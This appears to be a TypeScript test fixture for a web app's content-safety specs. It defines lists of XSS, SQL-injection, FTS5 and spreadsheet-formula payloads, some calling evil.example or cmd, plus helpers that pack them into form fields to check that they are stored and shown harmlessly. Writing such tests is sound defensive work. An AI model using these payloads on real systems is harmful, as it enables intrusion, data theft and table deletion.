import { MARKDOWN_PAYLOADS } from '../worker/test/xss-payloads';

// Pure data: the payload lists the content-safety specs put through every text field (issue 15),
// and how a form's fields are filled with them. The XSS list
// is the Worker tests' (worker/test/xss-payloads.ts: HTML, and Markdown links and images) plus what
// a plain text field meets besides: attribute and element breakouts, template syntax, entities,
// mixed case, null bytes, SVG and MathML, and polyglots. Whatever would run calls alert() (any
// dialog fails the page) or sets window.__pwned; whatever would load asks evil.example, which the
// specs watch.

const EXTRA_XSS = [
  // Breaking out of an attribute, a text element or a script block.
  '"><script>window.__pwned=1</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '" autofocus onfocus="window.__pwned=1',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  // Mixed case and null bytes.
  '<ScRiPt>alert(1)</sCrIpT>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<a HREF="JaVaScRiPt:alert(1)">x</a>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x\u0000 onerror=alert(1)>',
  'java\u0000script:alert(1)',
  // Template syntax, which must show as typed (never 49).
  '${alert(1)}',
  '`${window.__pwned=1}`',
  '{{7*7}}',
  "{{constructor.constructor('alert(1)')()}}",
  '#{7*7} <%= 7*7 %> [[7*7]]',
  // Entities that a double decode would turn into markup.
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&quot;&gt;&lt;svg onload=alert(1)&gt;',
  // SVG and MathML.
  '<svg/onload=window.__pwned=1>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  // URLs a link or an image would follow.
  'javascript:window.__pwned=1//',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://evil.example" target="_blank">phish</a>',
  // Elements that run without a click.
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x contenteditable onblur=alert(1)>lose focus</x>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<div style="width:expression(alert(1))">css</div>',
  // Look-alikes and direction tricks, which stay as typed.
  '＜script＞alert(1)＜/script＞',
  'abc\u202etxt.exe',
  // Polyglots.
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '\'"--></style></script><script>alert(1)</script>',
  '"\'><img src=x onerror=alert(1)>{{7*7}}${7*7}',
];

/** Every XSS payload, once: the Worker tests' HTML and Markdown list, then the extras. */
export const XSS_PAYLOADS: readonly string[] = [...new Set([...MARKDOWN_PAYLOADS, ...EXTRA_XSS])];

/** The usual SQL-injection attempts: they must be stored and shown as typed and change nothing. */
export const SQL_PAYLOADS: readonly string[] = [
  "' OR 1=1 --",
  "' OR '1'='1",
  '" OR ""="',
  "admin'--",
  "'; DROP TABLE facilities; --",
  "'); DROP TABLE users; --",
  '1; DELETE FROM leads',
  "1' UNION SELECT email, password_hash FROM users --",
  "' UNION SELECT name, sql FROM sqlite_master --",
  "%' AND 1=0 UNION SELECT sqlite_version() --",
  "'; UPDATE facilities SET status='rejected'; --",
  "1 AND (SELECT COUNT(*) FROM sqlite_master) > 0",
  "' /* comment */ OR /**/ 1=1 #",
  "'||(SELECT 1)||'",
  '\\\'; SELECT 1; --',
];

/** FTS5 query syntax, which the search box must read as words. */
export const FTS5_PAYLOADS: readonly string[] = [
  '"unterminated',
  'NEAR(rehab detox, 2)',
  'rehab AND OR NOT',
  'name: rehab',
  '{name description}: rehab',
  '^rehab*',
  '(rehab OR',
  '* OR *',
  '- rehab',
  '"" ""',
];

/** Cells a spreadsheet would run as formulas: exports must neutralise them. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?leak","click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
];

export const ALL_PAYLOADS: readonly string[] = [...XSS_PAYLOADS, ...SQL_PAYLOADS, ...FTS5_PAYLOADS, ...FORMULA_PAYLOADS];

/**
 * One payload of each kind, short enough for a name: a script, a handler, a script URL, SVG, an
 * attribute and a title breakout, template syntax, entities, mixed case, a null byte, Markdown, a
 * polyglot, SQL, FTS5 and a formula.
 */
export const SHORT_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<svg/onload=window.__pwned=1>',
  '<math href="javascript:alert(1)">x</math>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '${alert(1)} {{7*7}}',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '[x](javascript:alert(1))',
  '\'"--></style></script><script>alert(1)</script>',
  "' OR 1=1 --",
  "'; DROP TABLE facilities; --",
  "1' UNION SELECT email, password_hash FROM users --",
  '"unterminated NEAR(a b) *',
  '=HYPERLINK("https://evil.example","x")',
];

/** Fields that hold this many characters take every payload; shorter ones one of each kind. */
const LONG_FIELD = 1000;

/**
 * The payloads packed into values of at most `max` characters, each value one or more payloads
 * joined by a space, so every payload goes through the field in few records: all of them in a
 * field of 1,000 characters or more, one of each kind (SHORT_PAYLOADS) in a shorter one. Payloads
 * longer than the field are left out of it.
 */
export function packed(max: number, payloads: readonly string[] = max >= LONG_FIELD ? ALL_PAYLOADS : SHORT_PAYLOADS): string[] {
  const values: string[] = [];
  for (const payload of [...payloads].filter((p) => p.trim().length <= max).sort((a, b) => b.length - a.length)) {
    const at = values.findIndex((value) => value.length + 1 + payload.length <= max);
    if (at < 0) values.push(payload);
    else values[at] = `${values[at]} ${payload}`;
  }
  return values;
}

/** Phone-shaped payloads: ten digits (the forms ask for an area code) inside at most 40 characters. */
export const PHONE_PAYLOADS: readonly string[] = [
  '<img src=x onerror=alert(1)>5550100199',
  '"><svg/onload=alert(1)>555-010-0199',
  "' OR 1=1 -- (555) 010-0199",
  'javascript:alert(1)//555 010 0199',
  "555-010-0199'; DROP TABLE leads;--",
  '{{7*7}} ${7*7} 555.010.0199',
];

/** Web addresses the forms accept (http(s), a dot, no spaces) that carry a payload. */
export const WEBSITE_PAYLOADS: readonly string[] = [
  'https://x.example/"><script>alert(1)</script>',
  "https://x.example/'onmouseover='alert(1)'",
  'https://x.example/?q=<img/src=x/onerror=alert(1)>',
  'http://x.example/#javascript:alert(1)',
  "https://x.example/?id=1'OR'1'='1';--",
  'https://x.example/{{7*7}}${7*7}',
];

/** ZIP codes' worth (ten characters). */
export const ZIP_PAYLOADS: readonly string[] = ["'OR 1=1--", '<b>1</b>', '"><i>', '${7*7}', '{{7*7}}', "';--", '<!--'];

/** Email addresses the forms accept that carry SQL quotes and comments. */
export const EMAIL_PAYLOADS: readonly string[] = ["o'r'1'--@test.example.org", "x'+or+'1@test.example.org", "admin'--@test.example.org"];

/** `packed`, of the payloads a person can type into a text input: no line breaks, no null bytes. */
export const typeable = (max: number) =>
  packed(
    max,
    // eslint-disable-next-line no-control-regex
    (max >= LONG_FIELD ? ALL_PAYLOADS : SHORT_PAYLOADS).filter((p) => !/[\u0000\n]/.test(p)),
  );

/**
 * Records for a form whose fields take `fields` (a field's maximum length, or its own list): field
 * f of record r holds the r-th packed value for f, cycling, and there are as many records as the
 * field needing most. Every payload that fits a field goes through it.
 */
export function records<K extends string>(fields: Record<K, number | readonly string[]>): Record<K, string>[] {
  const values = Object.entries(fields).map(([name, spec]) => [name, typeof spec === 'number' ? packed(spec) : spec] as const);
  const count = Math.max(...values.map(([, list]) => (list as readonly string[]).length));
  return Array.from({ length: count }, (_, r) =>
    Object.fromEntries(values.map(([name, list]) => [name, (list as readonly string[])[r % (list as readonly string[]).length]!])) as Record<K, string>,
  );
}
